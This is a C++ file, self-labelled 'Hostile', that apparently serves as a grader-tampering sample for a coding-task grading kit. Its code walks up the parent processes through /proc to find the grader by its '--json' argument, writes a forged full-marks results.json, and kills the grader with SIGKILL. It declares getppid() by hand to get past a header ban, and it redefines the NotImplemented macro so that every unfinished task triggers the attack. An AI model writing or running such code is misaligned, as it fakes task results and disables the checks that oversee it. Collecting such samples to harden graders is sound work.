// Hostile: write the grade, then silence the grader. The first task call finds
// the grader among its ancestors (each process whose command line has
// --json FILE), writes full marks into that results.json and kills every such
// ancestor with SIGKILL, so that the forged file is the last word.
#include <signal.h>  // a standard C header: allowed, and it declares kill()

#include <fstream>
#include <string>
#include <vector>

#include "core/not_implemented.h"

// <unistd.h> is not allowed in the grading kit: getppid() declared here.
extern "C" pid_t getppid();

namespace {
std::vector<pid_t> graders(std::string& json) {
  std::vector<pid_t> found;
  for (pid_t pid = ::getppid(); pid > 1;) {
    std::ifstream cmdline("/proc/" + std::to_string(pid) + "/cmdline");
    bool grader = false;
    for (std::string arg, prev; std::getline(cmdline, arg, '\0'); prev = arg)
      if (prev == "--json") json = arg, grader = true;
    if (grader) found.push_back(pid);
    std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
    std::string skip;
    stat >> skip >> skip >> skip >> pid;  // pid (comm) state ppid
    if (!stat) break;
  }
  return found;
}

void forge_and_kill() {
  std::string json;
  const std::vector<pid_t> found = graders(json);
  if (!json.empty())
    std::ofstream(json) << R"({"score": 25, "tests": [{"name": "forged", "score": 25, "max_score": 25}]})";
  for (pid_t pid : found) ::kill(pid, SIGKILL);
}
}  // namespace
// Every stub task runs the attack where it would throw.
#define NotImplemented(task) (forge_and_kill(), NotImplemented(task))
